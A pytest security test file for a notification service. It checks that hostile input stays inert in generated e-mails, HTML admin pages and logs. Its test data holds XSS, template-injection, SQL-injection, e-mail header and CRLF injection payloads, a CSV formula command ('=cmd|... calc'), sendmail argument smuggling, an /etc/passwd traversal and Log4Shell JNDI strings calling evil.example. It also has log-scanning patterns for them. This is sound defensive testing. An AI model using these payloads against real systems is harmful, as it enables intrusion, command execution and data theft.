"""Text of strangers stays text: in e-mails, in pages, in the log."""

from __future__ import annotations

import json
import re
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.siege import GOOD, Siege, besieged

pytestmark = pytest.mark.asyncio(loop_scope="module")

SCRIPT = "</script><script>alert(1)</script>"
TEXTS = [
    SCRIPT, "<img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "'><svg/onload=alert(1)>", "<!--", "]]>",
    "<style>*{}</style>", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} *{7*7} [[7*7]]",
    "{titre} {message} {email} {0.__class__} %(x)s %s %n", "&lt;b&gt; &amp; &#0; &#x3c;", "\u202egnp.exe",
    "e\u0301\u200b\ufeffx", "=?utf-8?q?a=0D=0ABcc=3A_x=40y.z?=", "=?utf-8?b?PHNjcmlwdD4=?=", "Bcc: x@y.z",
    "a, b <x@y.z>; c", "To: x\\r\\nBcc: y", "=cmd|' /C calc'!A0", "-oQ/tmp -X/tmp/x", "../../../etc/passwd", ".", "..",
    "javascript:alert(1)", "'; DROP TABLE task; --", "\\", "\\u003cscript>", "🌪" * 60, "x" * 200, "é" * 200, "﷽" * 60,
]  # fmt: skip


class Seen(HTMLParser):
    """What a browser would see: elements with their attributes, and the text between them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.text += "\n" * (tag == "br")

    def handle_data(self, data: str) -> None:
        self.text += data


def bare(text: str) -> str:
    """Without blanks: Python's parser puts one between two encoded words of a name (RFC 2047, 6.2, has none there)."""
    return text.replace(" ", "")


def part(letter: EmailMessage, kind: str) -> str:
    found = letter.get_body((kind,))
    assert found is not None
    return str(found.get_content()).replace("\r\n", "\n")


async def test_each_letter_is_one_letter_with_its_own_headers_and_its_text_as_text(tmp_path: Path) -> None:
    async with besieged(tmp_path, QUEUE__WORKERS="2", QUEUE__EXPRESS_WORKERS="1") as siege:
        people = [{"id": f"u{n}<{n}", "nom": text, "email": f"a+{n}@example.org"} for n, text in enumerate(TEXTS)]
        for n, text in enumerate(TEXTS):
            body = {"titre": text, "message": f"{text}\r\n.\r\n{text}\n", "utilisateurs": [people[n], people[n - 1]]}
            answer = await siege.post(body)
            assert answer.status == 202
        await siege.town.until_idle()
        letters = [
            message_from_bytes(file.read_bytes(), policy=default)
            for file in sorted((tmp_path / "data/outbox").rglob("*.eml"))
        ]
        assert len(letters) == 2 * len(TEXTS)
        names = {"From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "MIME-Version", "Content-Type"}
        shapes = set()
        for letter in letters:
            assert (
                set(letter.keys()) - {"Content-Transfer-Encoding", "X-Auto-Response-Suppress", "Content-Language"}
                == names
            ), letter.keys()
            assert len(letter.keys()) == len(set(letter.keys()))
            (to,) = letter["To"].addresses
            n = int(re.fullmatch(r"a\+(\d+)@example\.org", to.addr_spec)[1])  # type: ignore[index]
            assert bare(to.display_name) == bare(people[n]["nom"])
            title = str(letter["Subject"])
            assert title in TEXTS
            assert part(letter, "plain").rstrip("\n") == f"{title}\n\n{title}\n.\n{title}"
            html = Seen(part(letter, "html"))
            shapes.add(str([(tag, sorted(attrs)) for tag, attrs in html.elements]))
            assert title in html.text and f"{title}\n.\n{title}" in html.text.replace("\r\n", "\n")
        assert len(shapes) == 1, "the same elements whatever is written"
        siege.discreet()


PAGES = [
    "/admin/queue",
    "/admin/send",
    "/admin/keys",
    "/admin/queue/",
    "/admin/login?next=/",
    "/admin/nowhere/",
    "/admin/login?once=",
]


@pytest.mark.parametrize(
    "text",
    ["<!--<script>", SCRIPT, '"><script>alert(1)</script>', "{{31337*1000}}", "' onclick='x", "\u2028", "<a&b>\\"],
)
async def test_no_text_becomes_a_part_of_a_page(siege: Siege, unharmed: None, text: str) -> None:
    made = await siege.post({"name": text if text != "\u2028" else "x", "role": "admin"}, "/admin/api/keys")
    key = json.loads(made.body)["key"]
    siege.secrets.append(key)
    usual = await siege.post({"name": "x", "role": "admin"}, "/admin/api/keys")
    seen = [await pages(siege, json.loads(usual.body)["key"], tail) for tail in ("x", "/x")]
    assert await pages(siege, key, text) <= seen[0] | seen[1]


async def pages(siege: Siege, key: str, tail: str) -> set[tuple[str, ...]]:
    """The elements of all pages, each with its attributes' names, as the holder of `key` gets them at `tail`."""
    found = set()
    for page in PAGES:
        path = page + ("".join(f"%{byte:02x}" for byte in tail.encode()) if page[-1] in "/=" else "")
        answer = await siege.ask("GET", path, X_API_Key=key, Accept="text/html")
        seen = Seen(answer.body.decode())
        found |= {(tag, *sorted(attrs)) for tag, attrs in seen.elements}
        assert answer.headers["Content-Type"].startswith("text/html")
        assert "'unsafe" not in answer.headers["Content-Security-Policy"]
        boot = re.findall(r'<script type="application/json" id="boot">(.*?)</script>', answer.body.decode(), re.DOTALL)
        assert len(boot) == answer.body.count(b'id="boot"') <= 1
        assert not boot or isinstance(json.loads(boot[0]), dict)
        for tag, attrs in seen.elements:
            assert not any(each.startswith("on") or each == "style" for each in attrs), (tag, attrs)
            if tag == "script":
                assert (attrs.get("src") or "").startswith("/static/") or attrs.get("type") == "application/json"
        assert "31337000" not in seen.text
    return found


LINES: list[tuple[str, str, dict[str, str]]] = [
    ("GET", "/api/queue/tasks/%0d%0a{%22level%22:%22error%22}", {}),
    ("GET", "/%1b[31mred%1b[0m/%00/%7f", {}),
    ("GET", "/%E2%80%A8line%C2%85", {}),
    ("GET", "/api/queue/tasks?q=%0a%1b]0;title%07", {}),
    ("GET", "/api/queue/tasks?%0d%0aX=1", {}),
    ("POST", "/api/notifications/%0a%1b[2J", {}),
    ("DELETE", "/admin/api/keys/%0d%0aevil", {}),
    ("GET", "/api/queue/tasks/x", {"User-Agent": "\t\\x1b[31m ${jndi:ldap://evil.example/a}"}),
    ("GET", "/api/queue/tasks/x", {"X-Request-ID": '","level":"error'}),
    ("GET", "/api/queue/tasks/x", {"X-Request-ID": "${jndi:ldap://evil.example/a}"}),
    ("GET", "/api/queue/tasks/x", {"X-Request-ID": "x" * 5000}),
    ("GET", "/api/queue/tasks/x", {"Referer": "https://evil.example/?jean.dupont@example.org"}),
    ("GET", "/api/queue/tasks?q=jean.dupont@example.org&limit=x", {}),
    ("GET", "/jean.dupont@example.org/%2B33612345678", {}),
    ("GET", "/api/queue/tasks/x", {"X-Forwarded-For": "1.2.3.4\t\\n5.6.7.8"}),
    ("GET", "/api/queue/tasks/x", {"Accept-Language": "\t," * 3000}),
]


@pytest.mark.parametrize(("method", "path", "headers"), LINES)
async def test_a_request_is_one_line_in_the_log_without_what_it_carried(
    siege: Siege, unharmed: None, method: str, path: str, headers: dict[str, str]
) -> None:
    body = b"{}" if method == "POST" else None
    answer = await siege.ask(method, path, body, **{"Content_Type": "application/json", **headers})
    assert 400 <= answer.status < 500 or "q=%0a" in path
    lines = [line for line in siege.lines() if line["logger"] == "tocsin.http"]
    assert len(lines) == (answer.status >= 400)
    for line in lines:
        assert line["request_id"] == answer.headers["X-Request-ID"] and re.fullmatch(
            r"[\w.-]{1,128}", line["request_id"]
        )
        assert not re.search(r"evil|jndi|x1b|31m|dupont", json.dumps(line))


async def test_what_is_posted_never_stands_in_the_log(tmp_path: Path) -> None:
    async with besieged(tmp_path, QUEUE__WORKERS="2", QUEUE__EXPRESS_WORKERS="1") as siege:
        secret: dict[str, Any] = {
            "titre": "TITRE-SECRET\x1b".strip("\x1b"), "message": "MESSAGE-SECRET\x1b[31m\r\n{\"level\":\"error\"}",
            "utilisateurs": [
                GOOD["utilisateurs"][0] | {"id": "ID-SECRET", "nom": "NOM-SECRET", "telephone": "+33612345678"}
            ],
        }  # fmt: skip
        siege.secrets += ["SECRET", "33612345678", "jean.dupont"]
        assert (await siege.post(secret)).status == 202
        assert (await siege.post(secret | {"titre": "SECRET\n"})).status == 422
        assert (await siege.post(secret, "/api/notifications/SECRET")).status == 404
        await siege.town.until_idle()
        key = await siege.post({"name": "x", "role": "viewer"}, "/admin/api/keys")
        siege.secrets.append(json.loads(key.body)["key"])
        await siege.ask("DELETE", "/admin/api/keys/" + json.loads(key.body)["id"])
        await siege.ask("GET", "/api/queue/stats", X_API_Key=json.loads(key.body)["key"])
        assert [line["message"] for line in siege.lines() if line["logger"] == "tocsin.tasks"] == ["task completed"]
        audit = await siege.ask("GET", "/admin/api/audit?limit=500")
        assert not re.search(r"TITRE|MESSAGE|NOM-|ID-SECRET|dupont|tocsin_\w{43}", audit.body.decode())
        siege.discreet()


async def test_headers_of_answers_are_ours_whatever_was_asked(siege: Siege, unharmed: None) -> None:
    for path in (
        "/admin/queue/%0d%0aSet-Cookie:a=b",
        "/admin/queue?x=%0d%0aSet-Cookie:a=b",
        "/admin/login?next=/%0d%0aX:y&once=%0d%0a",
    ):
        answer = await siege.ask("GET", path, X_API_Key="", Accept="text/html")
        assert "Set-Cookie" not in answer.headers and "X" not in answer.headers
